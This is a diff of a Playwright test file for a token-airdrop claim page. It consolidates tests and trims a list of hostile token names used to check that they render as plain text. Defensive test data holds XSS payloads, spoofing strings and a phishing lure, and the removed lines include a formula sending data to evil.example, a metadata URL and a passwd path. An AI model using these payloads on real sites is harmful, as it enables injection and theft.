@@ -1,13 +1,11 @@
-import { encodeAbiParameters, erc1155Abi, erc20Abi, erc721Abi, getAddress, toFunctionSelector } from 'viem'
+import { encodeAbiParameters, erc1155Abi, erc721Abi, getAddress, toFunctionSelector } from 'viem'
 import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
 import type { Page } from '@playwright/test'
-import { serializeManifest } from '@slotdrop/drops'
 import { type Chain, expect, test } from '../fixtures/app.ts'
 import { publishDrop, servePublicFiles } from '../fixtures/publicDrop.ts'
 import { type InjectedWallet, injectWallet } from '../fixtures/wallet.ts'
 import { creator } from '../pages/creator.ts'
-import { findViolations } from '../pages/axe.ts'
-import { look, setLook } from '../pages/look.ts'
+import { look } from '../pages/look.ts'
 import { recipient } from '../pages/recipient.ts'
 
 type RpcRequest = {
@@ -38,6 +36,10 @@ test.describe('checking an address', () => {
     await expect(page.getByText('You can claim')).toBeVisible()
     await expect(page.getByText('Season 2 rewards')).toBeVisible()
     await expect(page.getByText('0 of 2 paid')).toBeVisible()
+    // Search engines find it by its own link.
+    const { origin } = new URL(page.url())
+    await expect(page.locator('link[rel="canonical"]')).toHaveAttribute('href', `${origin}${path}`)
+    await expect(page.locator('meta[name="robots"]')).toHaveCount(0)
     expect(asked.filter((url) => url.includes('graphql'))).toEqual([])
     const scripts = await page.evaluate(async () => {
       const sources = [...document.scripts].map(({ src }) => src).filter(Boolean)
@@ -45,6 +47,7 @@ test.describe('checking an address', () => {
       return texts.filter((text) => /rainbowkit|ApolloClient/i.test(text)).length
     })
     expect(scripts).toBe(0)
+    await look(page, 'public-claimable')
   })
 
   test('a pasted address is looked up; one that is not listed is told so, a mistyped one is named', async ({
@@ -72,25 +75,22 @@ test.describe('checking an address', () => {
     await expect(page.getByLabel('Check an address, no connection needed')).toHaveValue('0x123')
   })
 
-  for (const [name, change, words] of [
-    [
-      'a tampered shard',
-      { shard: (bytes: Uint8Array) => bytes.with(40, (bytes[40] ?? 0) ^ 1) },
-      'Do not trust this answer',
-    ],
-    [
-      'a manifest of another drop',
-      { index: (text: string) => text.replace(/"rowCount":2/, '"rowCount":3') },
-      'This drop can’t be shown',
-    ],
-  ] as const)
-    test(`${name} is refused, and nothing of it can be claimed`, async ({ page, chain }) => {
-      const { manifest, path } = await publishDrop(chain, [other, third])
+  test('a tampered shard and the index of another drop are refused, and nothing of them can be claimed', async ({
+    page,
+    chain,
+  }) => {
+    const { manifest, path } = await publishDrop(chain, [other, third])
+    for (const [change, words] of [
+      [{ shard: (bytes: Uint8Array) => bytes.with(40, (bytes[40] ?? 0) ^ 1) }, 'Do not trust this answer'],
+      [{ index: (text: string) => text.replace(/"rowCount":2/, '"rowCount":3') }, 'This drop can’t be shown'],
+    ] as const) {
+      await page.unrouteAll()
       await servePublicFiles(page, manifest, change)
       await page.goto(`${path}?address=${other}`)
       await expect(page.getByRole('heading', { level: 1, name: words })).toBeVisible()
       await expect(page.getByRole('button', { name: /Claim/ })).toHaveCount(0)
-    })
+    }
+  })
 
   test('the part of the page that checks can’t be fetched: it says so, and tries again when told to', async ({
     page,
@@ -110,23 +110,10 @@ test.describe('checking an address', () => {
     faults.length = 0
   })
 
-  test('search engines find a drop by its own link, and no drop that is not there', async ({ page, chain, faults }) => {
-    const { manifest, path } = await publishDrop(chain, [other, third])
-    await servePublicFiles(page, manifest)
-    await page.goto(`${path}?address=${other}`)
-    await expect(page.getByText('You can claim')).toBeVisible()
-    const { origin } = new URL(page.url())
-    await expect(page.locator('link[rel="canonical"]')).toHaveAttribute('href', `${origin}${path}`)
-    await expect(page.locator('meta[name="robots"]')).toHaveCount(0)
-    await page.goto(`/d/0x${'ab'.repeat(32)}`)
-    await expect(page.locator('meta[name="robots"]')).toHaveAttribute('content', 'noindex')
-    // The answer 404 is meant.
-    faults.length = 0
-  })
-
-  test('a drop that nobody published is told so', async ({ page, faults }) => {
+  test('a drop that nobody published is told so, and search engines find it by no link', async ({ page, faults }) => {
     await page.goto(`/d/0x${'ab'.repeat(32)}`)
     await expect(page.getByText('There is no public drop with this address.')).toBeVisible()
+    await expect(page.locator('meta[name="robots"]')).toHaveAttribute('content', 'noindex')
     // The answer 404 is meant.
     faults.length = 0
   })
@@ -145,90 +132,78 @@ test.describe('checking an address', () => {
     faults.length = 0
   })
 
-  for (const [name, oddities, words] of [
-    ['claims that were not opened', { claimsOpen: false }, /Waiting in slot 1.*nothing to do and no fee/],
-    ['coins', { standard: 'NATIVE', symbol: 'ETH' }, /own coin.*the sender pays it out/],
-    ['a sender without allowance', { isApproved: false }, /does not cover it now/],
-    ['a closed drop', { closes: 1_000_000_000n }, /This drop is closed/],
-    ['a drop that opens later', { opens: 4_000_000_000n }, /This drop opens on/],
-  ] as const)
-    test(`${name}: the page says what it means for the recipient`, async ({ page, chain }) => {
-      const { manifest, path } = await publishDrop(chain, [other, third], oddities as never)
-      await servePublicFiles(page, manifest)
-      await page.goto(`${path}?address=${other}`)
-      await expect(page.getByRole('region', { name: 'Your allocation' })).toHaveText(words)
-      await expect(page.getByRole('button', { name: /^Claim/ })).toHaveCount(0)
-    })
-
-  test('a cancelled drop says so', async ({ page, chain }) => {
-    const drop = await publishDrop(chain, [other, third])
-    await drop.cancel()
-    await servePublicFiles(page, drop.manifest)
-    await page.goto(`${drop.path}?address=${other}`)
-    await expect(page.getByText('The sender cancelled this drop')).toBeVisible()
-  })
-
-  /** What a stranger may write as the name of a token or a drop: scripts, markup, templates, turned text, endless text, links. */
-  const hostile = [
-    '<script>window.__xss=1</script>',
-    '<img src=x onerror=window.__xss=1>',
-    '"><svg/onload=window.__xss=1>',
-    "{{constructor.constructor('window.__xss=1')()}}",
-    '${window.__xss=1}',
-    '</title><script>window.__xss=1</script>',
-    '\u2028\u2029window.__xss=1',
-    'USDC\u202e\u2066\u2069 fake',
-    'USD\u0421',
-    '\u200bUSDC\u200b',
-    `U${'\u0300'.repeat(150)}S`,
-    'A'.repeat(5_000),
-    'Visit https://claim-airdrop.example to receive 1000 USDC',
-    '\u0000\u0001\u001b[31mred',
-    '\r\nSet-Cookie: a=b',
-    '=HYPERLINK("http://evil.example?x="&A1,"x")',
-    'javascript:window.__xss=1',
-    'data:text/html,<script>parent.__xss=1</script>',
-    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss=1'/>",
-    'http://169.254.169.254/latest/meta-data/',
-    'file:///etc/passwd',
-    'https://user:pass@evil.example/a.png',
-    '__proto__',
-    'vitalik\u200d.eth',
-  ]
-
-  test('W5: hostile names of tokens and drops are text and nothing else, or can’t be sealed at all', async ({
+  test('claims that were not opened, coins, no allowance, a drop that is closed, opens later or was cancelled: the page says what it means for the recipient', async ({
     page,
     chain,
   }) => {
-    await page.setViewportSize({ width: 320, height: 800 })
-    let shown = 0
-    for (const name of hostile) {
-      const made = await publishDrop(chain, [other, third], { title: name, symbol: name, isOnChain: false }).catch(
-        (error: Error) => error,
-      )
-      if (made instanceof Error) {
-        expect(made.message).toMatch(/title|symbol|name/i)
-        continue
-      }
-      shown += 1
-      await page.unrouteAll()
-      await servePublicFiles(page, made.manifest)
-      await page.goto(`${made.path}?address=${other}`)
-      await expect(page.getByRole('region', { name: 'Your allocation' })).toBeVisible()
-      expect(await page.evaluate(() => '__xss' in window)).toBe(false)
-      const main = page.locator('main')
-      expect(await main.locator('img, iframe, object, script').count()).toBe(0)
-      expect(await main.innerText()).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
-      // Nothing in a name becomes a link.
-      const hrefs = await main.getByRole('link').evaluateAll((links) => links.map((link) => link.getAttribute('href')))
-      expect(hrefs.filter((href) => /evil|169\.254|claim-airdrop|^(javascript|data|file):/.test(href ?? ''))).toEqual(
-        [],
-      )
-      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
-      await expect(page.getByText(`${made.manifest.terms.sender.slice(0, 6)}`).first()).toBeVisible()
+    const kinds = [
+      [{ claimsOpen: false }, /Waiting in slot 1.*nothing to do and no fee/],
+      [{ standard: 'NATIVE', symbol: 'ETH' }, /own coin.*the sender pays it out/],
+      [{ isApproved: false }, /does not cover it now/],
+      [{ closes: 1_000_000_000n }, /This drop is closed/],
+      [{ opens: 4_000_000_000n }, /This drop opens on/],
+      [{ title: 'Called off' }, /The sender cancelled this drop/],
+    ] as const
+    const drops = await Promise.all(kinds.map(([oddities]) => publishDrop(chain, [other, third], oddities)))
+    await drops.at(-1)?.cancel()
+    for (const [index, { manifest, path }] of drops.entries()) {
+      await servePublicFiles(page, manifest)
+      await page.goto(`${path}?address=${other}`)
+      await expect(page.getByRole('region', { name: 'Your allocation' })).toHaveText(kinds[index]?.[1] ?? '')
+      await expect(page.getByRole('button', { name: /^Claim/ })).toHaveCount(0)
     }
-    expect(shown).toBeGreaterThan(10)
   })
+
+  /** Names that would do harm as markup, by their length or as links; how any name is written is held by `UntrustedText.test.tsx`. */
+  const hostile = [
+    '<img src=x onerror=window.__xss=1>',
+    '"><svg/onload=window.__xss=1>',
+    "{{constructor.constructor('window.__xss=1')()}}",
+    '</title><script>window.__xss=1</script>',
+    'USDC\u202e\u2066\u2069 fake',
+    `U${'\u0300'.repeat(150)}S`,
+    'A'.repeat(5_000),
+    'Visit https://claim-airdrop.example to receive 1000 USDC',
+    'javascript:window.__xss=1',
+    '__proto__',
+  ]
+
+  test(
+    'hostile names of tokens and drops are text and nothing else, or can’t be sealed at all',
+    { tag: '@W5' },
+    async ({ page, chain }) => {
+      await page.setViewportSize({ width: 320, height: 800 })
+      let shown = 0
+      for (const name of hostile) {
+        const made = await publishDrop(chain, [other, third], { title: name, symbol: name, isOnChain: false }).catch(
+          (error: Error) => error,
+        )
+        if (made instanceof Error) {
+          expect(made.message).toMatch(/title|symbol|name/i)
+          continue
+        }
+        shown += 1
+        await page.unrouteAll()
+        await servePublicFiles(page, made.manifest)
+        await page.goto(`${made.path}?address=${other}`)
+        await expect(page.getByRole('region', { name: 'Your allocation' })).toBeVisible()
+        expect(await page.evaluate(() => '__xss' in window)).toBe(false)
+        const main = page.locator('main')
+        expect(await main.locator('img, iframe, object, script').count()).toBe(0)
+        expect(await main.innerText()).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
+        // Nothing in a name becomes a link.
+        const hrefs = await main
+          .getByRole('link')
+          .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
+        expect(hrefs.filter((href) => /evil|169\.254|claim-airdrop|^(javascript|data|file):/.test(href ?? ''))).toEqual(
+          [],
+        )
+        expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
+        await expect(page.getByText(`${made.manifest.terms.sender.slice(0, 6)}`).first()).toBeVisible()
+      }
+      expect(shown).toBeGreaterThan(5)
+    },
+  )
 })
 
 test.describe('nodes that can’t be believed', () => {
@@ -249,7 +224,6 @@ test.describe('nodes that can’t be believed', () => {
     })
     await page.goto(`${path}?address=${other}`)
     await expect(page.getByText('The node answers for another network than the drop’s.')).toBeVisible()
-    await look(page, 'public-wrong-node')
     await expect(page.getByRole('button', { name: /^Claim/ })).toHaveCount(0)
   })
 
@@ -310,28 +284,33 @@ test('an account that is a contract claims its row by itself, and sends it to an
   expect(await chain.balanceOf('MERI', account)).toBe(0n)
 })
 
-for (const standard of ['ERC20', 'ERC721', 'ERC1155'] as const)
-  test(`a wallet claims its row of ${standard}, in two clicks and one prompt`, async ({ page, chain, wallet }) => {
+for (const standard of ['ERC721', 'ERC1155'] as const)
+  test(`a wallet claims its row of ${standard}, in two clicks and one prompt, and can be asked again after a refusal`, async ({
+    page,
+    chain,
+    wallet,
+  }) => {
     const { address } = wallet.account
     await chain.client.setBalance({ address, value: 10n ** 20n })
     const { manifest, path } = await publishDrop(chain, [address, other, third], {
       standard,
-      symbol: { ERC20: 'MERI', ERC721: 'PASS', ERC1155: 'ITEM' }[standard],
+      symbol: { ERC721: 'PASS', ERC1155: 'ITEM' }[standard],
     })
     await servePublicFiles(page, manifest)
     await page.goto(`${path}?address=${address}`)
     await recipient(page).beginClaim()
-    await page.getByRole('button', { name: /^Claim on/ }).click()
+    const claim = page.getByRole('button', { name: /^Claim on/ })
+    // A refusal in the wallet is no failure.
+    wallet.rejectAfter('eth_sendTransaction', 0)
+    await claim.click()
+    await expect(page.getByText('Not claimed.')).toBeVisible()
+    await claim.click()
     await expect(page.getByText('Claimed.')).toBeVisible()
     await expect(page.getByText('You received')).toBeVisible()
     await expect(page.getByText('1 of 3 paid')).toBeVisible()
     const place = manifest.rowCount === 3 ? [0, 1, 2].find((row) => manifest.rowAt(row).account === address) : undefined
     const row = manifest.rowAt(place ?? 0)
     const { token } = manifest.terms
-    if (standard === 'ERC20')
-      expect(
-        await chain.client.readContract({ abi: erc20Abi, address: token, functionName: 'balanceOf', args: [address] }),
-      ).toBe(row.amount)
     if (standard === 'ERC721')
       expect(
         await chain.client.readContract({ abi: erc721Abi, address: token, functionName: 'ownerOf', args: [row.id] }),
@@ -345,8 +324,8 @@ for (const standard of ['ERC20', 'ERC721', 'ERC1155'] as const)
           args: [address, row.id],
         }),
       ).toBe(row.amount)
-    // No approval was asked for.
-    expect(wallet.requests.filter(({ method }) => method === 'eth_sendTransaction')).toHaveLength(1)
+    // No approval was asked for; one claim was declined.
+    expect(wallet.requests.filter(({ method }) => method === 'eth_sendTransaction')).toHaveLength(2)
     expect(await page.locator('[aria-hidden="true"] > i').count()).toBeLessThanOrEqual(35)
   })
 
@@ -393,21 +372,14 @@ test.describe('a claim and a push at once: the row is paid once, and both pages 
     if (!context) throw new Error('There is no browser.')
     const sender = await context.newPage()
     const senderWallet = await injectWallet(sender, { rpcUrl: chain.rpcUrl, privateKey: drop.key })
-    await sender.goto('/drops')
-    await creator(sender).connect()
-    await sender.getByLabel('Sealed file').setInputFiles({
-      name: 'sealed.json',
-      mimeType: 'application/json',
-      buffer: Buffer.from(serializeManifest(drop.manifest)),
-    })
-    await expect(sender.getByRole('heading', { level: 1, name: drop.manifest.title })).toBeVisible()
+    await creator(sender).openSealed(drop.manifest)
     const amount = [0, 1].map((place) => drop.manifest.rowAt(place)).find((row) => row.account === address)?.amount
     const expectPaidOnce = async () => {
       expect(await chain.balanceOf('MERI', address)).toBe(amount)
       expect(await chain.balanceOf('MERI', neighbour)).toBe(drop.manifest.total - (amount ?? 0n))
       expect(await chain.balanceOf('MERI', senderWallet.account.address)).toBe(0n)
     }
-    return { drop, claim, sender, senderWallet, expectPaidOnce, close: () => context.close() }
+    return { claim, sender, senderWallet, expectPaidOnce, close: () => context.close() }
   }
 
   test('the push is signed while the recipient looks at the claim in her wallet', async ({ page, chain, wallet }) => {
@@ -487,32 +459,24 @@ test.describe('a claim and a push at once: the row is paid once, and both pages 
     chain,
     wallet,
   }) => {
-    const { claim, drop, expectPaidOnce, close } = await bothPages(page, chain, wallet)
-    await drop.push(0)
+    const { address } = wallet.account
+    await chain.client.setBalance({ address, value: 10n ** 20n })
+    const { manifest, path, push } = await publishDrop(chain, [address, other])
+    await servePublicFiles(page, manifest)
+    await page.goto(`${path}?address=${address}`)
+    await recipient(page).beginClaim()
+    const claim = page.getByRole('button', { name: /^Claim on/ })
+    await expect(claim).toBeVisible()
+    await push(0)
     await claim.click()
     await expect(page.getByText('You received')).toBeVisible()
-    await expectPaidOnce()
+    const row = [0, 1].map((place) => manifest.rowAt(place)).find((each) => each.account === address)
+    expect(await chain.balanceOf('MERI', address)).toBe(row?.amount)
     expect(wallet.requests.filter(({ method }) => method === 'eth_sendTransaction')).toHaveLength(0)
-    await close()
   })
 })
 
-test('a refusal in the wallet is no failure, and the claim can be tried again', async ({ page, chain, wallet }) => {
-  const { address } = wallet.account
-  await chain.client.setBalance({ address, value: 10n ** 20n })
-  const { manifest, path } = await publishDrop(chain, [address])
-  await servePublicFiles(page, manifest)
-  wallet.rejectAfter('eth_sendTransaction', 0)
-  await page.goto(`${path}?address=${address}`)
-  await recipient(page).beginClaim()
-  const claim = page.getByRole('button', { name: /^Claim on/ })
-  await claim.click()
-  await expect(page.getByText('Not claimed.')).toBeVisible()
-  await claim.click()
-  await expect(page.getByText('Claimed.')).toBeVisible()
-})
-
-test('after a claim the wallet is offered the token, by the address and digits of the list', async ({
+test('a wallet claims its row of ERC20 with one prompt, and is offered the token then, by the address and digits of the list', async ({
   page,
   chain,
   wallet,
@@ -526,6 +490,9 @@ test('after a claim the wallet is offered the token, by the address and digits o
   await recipient(page).beginClaim()
   await page.getByRole('button', { name: /^Claim on/ }).click()
   await expect(page.getByText('Claimed.')).toBeVisible()
+  const row = [0, 1, 2].map((place) => manifest.rowAt(place)).find((each) => each.account === address)
+  expect(await chain.balanceOf('MERI', address)).toBe(row?.amount)
+  expect(wallet.requests.filter(({ method }) => method === 'eth_sendTransaction')).toHaveLength(1)
   // Who asked for less motion sees none of it.
   await expect(page.locator('[aria-hidden="true"]', { has: page.locator('> i') })).toBeHidden()
   await page.getByRole('button', { name: 'Show MERI in my wallet' }).click()
@@ -574,21 +541,4 @@ test.describe('in another time zone', () => {
     expect(field?.y).toBeGreaterThan(facts?.y ?? Infinity)
     expect(Math.abs((field?.x ?? 0) - (facts?.x ?? 0))).toBeLessThan(24)
   })
-})
-
-test('a row that can be claimed has no axe violation and does not scroll sideways, light and dark, 1440, 375 and 320 px wide', async ({
-  page,
-  chain,
-}) => {
-  const { manifest, path } = await publishDrop(chain, [other, third])
-  await servePublicFiles(page, manifest)
-  await page.goto(`${path}?address=${other}`)
-  await expect(page.getByText('You can claim')).toBeVisible()
-  for (const scheme of ['light', 'dark'] as const)
-    for (const width of [1440, 375, 320]) {
-      await setLook(page, scheme, width)
-      expect(await findViolations(page), `${scheme}, ${width} px`).toEqual([])
-      const over = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
-      expect(over, `${scheme}, ${width} px`).toBeLessThanOrEqual(0)
-    }
 })
